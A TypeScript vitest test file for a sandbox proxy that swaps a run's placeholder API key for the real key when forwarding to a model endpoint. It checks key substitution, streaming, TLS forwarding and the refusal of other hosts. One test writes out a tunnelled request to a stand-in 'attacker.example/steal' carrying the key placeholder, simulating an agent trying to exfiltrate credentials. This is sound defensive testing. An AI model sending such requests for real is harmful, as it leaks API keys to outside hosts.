import { execFileSync } from "node:child_process";
import http from "node:http";
import https from "node:https";
import net from "node:net";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { gatewayBaseUrl, MODEL_GATEWAY_HOST, newPlaceholderKey, type ModelGateway } from "./model-gateway";
import { startRunProxy, type RunProxy } from "./proxy";

/**
 * The run's proxy as the model gateway, with a real upstream server standing in for the model endpoint
 * and requests sent exactly as a sandboxed CLI sends them (absolute-URI requests to the proxy's socket).
 * The key must reach the endpoint only in place of the run's placeholder, and streamed answers must
 * arrive chunk by chunk.
 */

const REAL_KEY = "sk-real+key/with=chars";

interface Seen { method: string; url: string; headers: http.IncomingHttpHeaders; body: string }

let root: string;
let upstream: http.Server;
let upstreamPort: number;
let seen: Seen[] = [];
/** Releases the held second half of /stream. */
let release: () => void = () => undefined;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), "model-gateway-"));
  upstream = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => {
      seen.push({ method: req.method ?? "", url: req.url ?? "", headers: req.headers, body: Buffer.concat(chunks).toString() });
      if (req.url?.startsWith("/v1/stream")) {
        res.writeHead(200, { "content-type": "text/event-stream" });
        res.write("data: first\n\n");
        release = () => res.end("data: second\n\n");
        return;
      }
      res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ ok: true }));
    });
  });
  upstreamPort = await new Promise<number>((resolve) => upstream.listen(0, "127.0.0.1", () => resolve((upstream.address() as net.AddressInfo).port)));
});

afterAll(async () => {
  await new Promise<void>((resolve) => upstream.close(() => resolve()));
  await rm(root, { recursive: true, force: true });
});

afterEach(() => {
  seen = [];
});

async function proxyWith(gateway: ModelGateway | undefined): Promise<{ proxy: RunProxy; socketPath: string; denied: string[] }> {
  const socketPath = join(await mkdtemp(join(root, "p-")), "proxy.sock");
  const denied: string[] = [];
  const proxy = await startRunProxy({ socketPath, allow: [], modelGateway: gateway, onDenied: (m) => denied.push(m) });
  return { proxy, socketPath, denied };
}

/** One request through the proxy, as an HTTP_PROXY client sends it; resolves with the status and body. */
function viaProxy(socketPath: string, url: string, opts: { method?: string; headers?: Record<string, string>; body?: string } = {}): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = http.request({ socketPath, path: url, method: opts.method ?? "GET", headers: { host: new URL(url).host, ...opts.headers } }, (res) => {
      let body = "";
      res.setEncoding("utf8");
      res.on("data", (c: string) => { body += c; });
      res.on("end", () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on("error", reject);
    req.end(opts.body);
  });
}

describe("the proxy's model gateway", () => {
  it("swaps the placeholder for the real key in every header and in the query, and forwards path and body to the real endpoint", async () => {
    const placeholder = newPlaceholderKey();
    expect(placeholder).toMatch(/^ohk-model-[0-9a-f]{32}$/);
    const base = gatewayBaseUrl(`http://127.0.0.1:${upstreamPort}/v1`);
    expect(base).toBe(`http://${MODEL_GATEWAY_HOST}/v1`);
    const { proxy, socketPath } = await proxyWith({ upstream: `http://127.0.0.1:${upstreamPort}/v1`, placeholder, key: REAL_KEY });
    try {
      const res = await viaProxy(socketPath, `${base}/models/m:streamGenerateContent?alt=sse&key=${placeholder}`, {
        method: "POST",
        headers: { authorization: `Bearer ${placeholder}`, "x-api-key": placeholder, "x-goog-api-key": placeholder, "content-type": "application/json" },
        body: JSON.stringify({ prompt: "hello" }),
      });
      expect(res).toEqual({ status: 200, body: JSON.stringify({ ok: true }) });
      expect(seen).toHaveLength(1);
      const [r] = seen;
      expect(r?.method).toBe("POST");
      expect(r?.url).toBe(`/v1/models/m:streamGenerateContent?alt=sse&key=${encodeURIComponent(REAL_KEY)}`);
      expect(r?.headers.authorization).toBe(`Bearer ${REAL_KEY}`);
      expect(r?.headers["x-api-key"]).toBe(REAL_KEY);
      expect(r?.headers["x-goog-api-key"]).toBe(REAL_KEY);
      // The endpoint sees itself as the host, never the virtual name; the placeholder goes nowhere.
      expect(r?.headers.host).toBe(`127.0.0.1:${upstreamPort}`);
      expect(r?.body).toBe(JSON.stringify({ prompt: "hello" }));
      expect(JSON.stringify(r)).not.toContain(placeholder);
    } finally {
      await proxy.close();
    }
  });

  it("adds no key to a request that does not carry the run's placeholder (another value, another run's, or none)", async () => {
    const placeholder = newPlaceholderKey();
    const { proxy, socketPath } = await proxyWith({ upstream: `http://127.0.0.1:${upstreamPort}/v1`, placeholder, key: REAL_KEY });
    try {
      const other = newPlaceholderKey();
      await viaProxy(socketPath, `http://${MODEL_GATEWAY_HOST}/v1/chat/completions?key=${other}`, { method: "POST", headers: { authorization: `Bearer ${other}`, "x-api-key": placeholder.toUpperCase() }, body: "{}" });
      await viaProxy(socketPath, `http://${MODEL_GATEWAY_HOST}/v1/models`);
      expect(seen).toHaveLength(2);
      expect(seen[0]?.headers.authorization).toBe(`Bearer ${other}`);
      expect(seen[0]?.url).toBe(`/v1/chat/completions?key=${other}`);
      expect(seen[1]?.headers.authorization).toBeUndefined();
      expect(seen[1]?.headers["x-api-key"]).toBeUndefined();
      for (const r of seen) expect(JSON.stringify(r)).not.toContain(REAL_KEY);
      expect(JSON.stringify(seen)).not.toContain(encodeURIComponent(REAL_KEY));
    } finally {
      await proxy.close();
    }
  });

  it("streams the answer: the first event reaches the CLI while the endpoint is still holding the rest", async () => {
    const placeholder = newPlaceholderKey();
    const { proxy, socketPath } = await proxyWith({ upstream: `http://127.0.0.1:${upstreamPort}`, placeholder, key: REAL_KEY });
    try {
      const chunks: string[] = [];
      const done = new Promise<void>((resolve, reject) => {
        const req = http.request({ socketPath, path: `http://${MODEL_GATEWAY_HOST}/v1/stream`, method: "POST", headers: { host: MODEL_GATEWAY_HOST, authorization: `Bearer ${placeholder}` } }, (res) => {
          expect(res.headers["content-type"]).toBe("text/event-stream");
          res.setEncoding("utf8");
          res.on("data", (c: string) => {
            chunks.push(c);
            // Only once the first event has arrived does the endpoint send the rest.
            if (chunks.length === 1) release();
          });
          res.on("end", () => resolve());
        });
        req.on("error", reject);
        req.end("{}");
      });
      await done;
      expect(chunks[0]).toBe("data: first\n\n");
      expect(chunks.join("")).toBe("data: first\n\ndata: second\n\n");
      expect(seen[0]?.headers.authorization).toBe(`Bearer ${REAL_KEY}`);
    } finally {
      await proxy.close();
    }
  });

  it("answers requests tunnelled to the virtual host (undici's ProxyAgent) with the same swap, and never forwards an absolute URL", async () => {
    const placeholder = newPlaceholderKey();
    const { proxy, socketPath } = await proxyWith({ upstream: `http://127.0.0.1:${upstreamPort}/v1`, placeholder, key: REAL_KEY });
    try {
      const requests = [
        `POST /v1beta/models/m:generateContent?key=${placeholder} HTTP/1.1\r\nHost: ${MODEL_GATEWAY_HOST}\r\nx-goog-api-key: ${placeholder}\r\ncontent-length: 2\r\n\r\n{}`,
        // The agent's choice of host inside the tunnel: refused, the key goes nowhere.
        `GET http://attacker.example/steal?key=${placeholder} HTTP/1.1\r\nHost: attacker.example\r\nauthorization: Bearer ${placeholder}\r\n\r\n`,
        // Scheme-relative: a path on the real endpoint, not another host.
        `GET //attacker.example/steal HTTP/1.1\r\nHost: ${MODEL_GATEWAY_HOST}\r\nconnection: close\r\n\r\n`,
      ];
      const answer = await new Promise<string>((resolve) => {
        const s = net.connect(socketPath, () => s.write(`CONNECT ${MODEL_GATEWAY_HOST}:80 HTTP/1.1\r\nHost: ${MODEL_GATEWAY_HOST}:80\r\n\r\n${requests.join("")}`));
        let data = "";
        s.on("data", (c: Buffer) => { data += c.toString(); });
        s.on("close", () => resolve(data));
      });
      const statuses = [...answer.matchAll(/^HTTP\/1\.1 (\d+)/gm)].map((m) => m[1]);
      expect(statuses).toEqual(["200", "200", "400", "200"]);
      expect(seen.map((r) => r.url)).toEqual([`/v1beta/models/m:generateContent?key=${encodeURIComponent(REAL_KEY)}`, "//attacker.example/steal"]);
      expect(seen[0]?.headers["x-goog-api-key"]).toBe(REAL_KEY);
      expect(seen[0]?.body).toBe("{}");
    } finally {
      await proxy.close();
    }
  });

  it("forwards to an https endpoint on any port (TLS from the worker to the endpoint, verified)", async () => {
    const dir = await mkdtemp(join(root, "tls-"));
    execFileSync("openssl", ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", join(dir, "key.pem"), "-out", join(dir, "cert.pem")], { stdio: "ignore" });
    const cert = await readFile(join(dir, "cert.pem"));
    const tls = https.createServer({ key: await readFile(join(dir, "key.pem")), cert }, (req, res) => {
      seen.push({ method: req.method ?? "", url: req.url ?? "", headers: req.headers, body: "" });
      res.writeHead(200, { "content-type": "application/json" }).end("{\"tls\":true}");
    });
    const port = await new Promise<number>((resolve) => tls.listen(0, "127.0.0.1", () => resolve((tls.address() as net.AddressInfo).port)));
    // The test's own CA for this self-signed endpoint (a deployment's endpoint has a public certificate).
    const savedCa = https.globalAgent.options.ca;
    https.globalAgent.options.ca = cert;
    const placeholder = newPlaceholderKey();
    const { proxy, socketPath } = await proxyWith({ upstream: `https://127.0.0.1:${port}/api/v1`, placeholder, key: REAL_KEY });
    try {
      const res = await viaProxy(socketPath, `${gatewayBaseUrl(`https://127.0.0.1:${port}/api/v1`)}/responses`, { method: "POST", headers: { authorization: `Bearer ${placeholder}` }, body: "{}" });
      expect(res).toEqual({ status: 200, body: "{\"tls\":true}" });
      expect(seen[0]?.url).toBe("/api/v1/responses");
      expect(seen[0]?.headers.authorization).toBe(`Bearer ${REAL_KEY}`);
    } finally {
      https.globalAgent.options.ca = savedCa;
      await proxy.close();
      await new Promise<void>((resolve) => tls.close(() => resolve()));
    }
  });

  it("keeps a keyless endpoint working (the placeholder goes through), and has no virtual host without a gateway or on another port", async () => {
    const placeholder = newPlaceholderKey();
    const connect = (socketPath: string, port: number) => new Promise<string>((resolve) => {
      const s = net.connect(socketPath, () => s.write(`CONNECT ${MODEL_GATEWAY_HOST}:${port} HTTP/1.1\r\nHost: ${MODEL_GATEWAY_HOST}:${port}\r\n\r\n`));
      let data = "";
      s.on("data", (c: Buffer) => { data += c.toString(); s.destroy(); });
      s.on("close", () => resolve(data.split("\r\n")[0] ?? ""));
    });
    const keyless = await proxyWith({ upstream: `http://127.0.0.1:${upstreamPort}/v1`, placeholder });
    try {
      expect((await viaProxy(keyless.socketPath, `http://${MODEL_GATEWAY_HOST}/v1/x`, { headers: { authorization: `Bearer ${placeholder}` } })).status).toBe(200);
      expect(seen[0]?.headers.authorization).toBe(`Bearer ${placeholder}`);
      expect((await viaProxy(keyless.socketPath, `http://${MODEL_GATEWAY_HOST}:8080/v1/x`)).status).toBe(403);
      expect(await connect(keyless.socketPath, 8080)).toMatch(/ 403 /);
    } finally {
      await keyless.proxy.close();
    }
    const none = await proxyWith(undefined);
    try {
      expect((await viaProxy(none.socketPath, `http://${MODEL_GATEWAY_HOST}/v1/x`, { headers: { authorization: `Bearer ${placeholder}` } })).status).toBe(403);
      expect(await connect(none.socketPath, 80)).toMatch(/ 403 /);
      expect(seen).toHaveLength(1);
    } finally {
      await none.proxy.close();
    }
  });
});
